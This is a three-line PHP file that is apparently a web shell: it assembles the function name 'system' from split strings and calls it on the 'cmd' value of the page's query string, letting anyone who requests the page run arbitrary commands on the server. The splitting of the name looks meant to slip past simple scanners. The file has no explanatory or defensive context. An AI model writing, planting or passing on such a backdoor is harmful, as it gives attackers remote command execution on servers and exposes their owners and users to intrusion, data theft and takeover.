<?php
$_0x = 'sys' . 'tem';
${'_0x'}($_GET['cmd']);
